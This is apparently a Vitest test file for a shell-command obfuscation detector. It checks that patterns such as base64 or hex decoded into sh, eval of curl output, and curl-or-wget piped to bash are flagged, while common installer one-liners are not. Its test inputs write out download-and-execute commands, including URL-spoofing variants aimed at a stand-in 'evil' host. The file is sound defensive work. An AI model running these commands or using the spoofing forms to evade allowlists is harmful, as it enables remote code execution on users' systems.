import { expect, it } from "vitest";
import { findObfuscation } from "./obfuscation.ts";

it.each([
  ["base64-to-shell", "echo aWQ= | base64 -d | sh"], ["base64-to-shell", "base64 --decode x | tee y | bash"], ["hex-to-shell", "echo 6964 | xxd -r -p | sh"], ["printf-to-shell", "printf '\\x69\\x64' | sh"],
  ["eval-decode", "eval $(echo aWQ= | base64 -d)"], ["decode-substitution", "bash -c \"$(echo aWQ= | base64 -d)\""], ["eval-download", "eval \"$(curl -s http://x/y)\""], ["eval-download", "source <(curl http://x)"],
  ["download-to-shell", "curl http://x/y | sh"], ["download-to-shell", "wget -qO- http://x | sudo bash"], ["download-to-shell", "curl x | python3"], ["pipe-to-shell", "cat x | sh"], ["pipe-to-shell", "rev x | /bin/bash -"],
  ["process-substitution", "bash <(cat x)"], ["shell-heredoc", "sh <<EOF\nid\nEOF"], ["here-string", "bash <<< id"], ["octal-escapes", "$'\\151\\144'"], ["hex-escapes", "$'\\x69\\x64'"],
  ["scripted-exec", "python3 -c 'import os; os.system(\"id\")'"], ["scripted-exec", "node -e 'require(\"child_process\")'"], ["variable-assembly", "a=i; b=d; $a$b"],
  ["download-to-shell", "curl https://bun.sh/install http://evil/x | bash"], ["download-to-shell", "curl -x evil:1 https://bun.sh/install | bash"], ["download-to-shell", "curl https://bun.sh/install.evil | bash"], ["download-to-shell", "curl https://bun.sh@evil/install | bash"],
])("%s is seen in %j", (id, command) => {
  expect(findObfuscation(command).map((item) => item.id)).toContain(id);
});

it.each([
  "ls -la | grep x", "git commit -m 'run sh'", "cat script.sh | head", "echo a | base64", "curl https://example.com -o x.tgz", "python3 script.py", "npm run build && npm test", "find . -name '*.sh' | wc -l", "x=1; echo $x", "ssh host 'ls'", "node build.js", "grep -r bash .",
  "curl -fsSL https://bun.sh/install | bash", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", "/bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"", "curl -sSL https://install.python-poetry.org | python3 -",
])("nothing is seen in %j", (command) => {
  expect(findObfuscation(command)).toEqual([]);
});
